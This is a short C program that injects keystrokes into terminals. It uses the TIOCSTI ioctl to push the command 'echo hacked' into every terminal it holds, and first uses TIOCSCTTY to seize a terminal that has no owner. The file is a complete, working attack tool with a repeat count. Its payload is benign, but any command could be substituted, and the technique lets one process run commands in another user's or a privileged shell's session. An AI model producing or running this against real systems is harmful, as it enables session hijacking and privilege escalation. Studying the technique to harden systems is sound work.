// push [COUNT]: types a line into the terminals that it has, as if their user had, COUNT times or once.

#include <fcntl.h>
#include <stdlib.h>
#include <sys/ioctl.h>
#include <termios.h>
#include <unistd.h>

static void push(int terminal, int lines) {
  for (int line = 0; line < lines; line++) {
    for (const char *next = "echo hacked\n"; *next != 0; next++) {
      if (ioctl(terminal, TIOCSTI, next) != 0) return;
    }
  }
}

int main(int count, char **arguments) {
  int lines = count > 1 ? atoi(arguments[1]) : 1;
  for (int descriptor = 0; descriptor < 3; descriptor++) {
    // It may have got a terminal that is nobody's: then it takes it first.
    ioctl(descriptor, TIOCSCTTY, 1);
    push(descriptor, lines);
  }
  int terminal = open("/dev/tty", O_RDWR);
  if (terminal >= 0) push(terminal, lines);
  return 0;
}
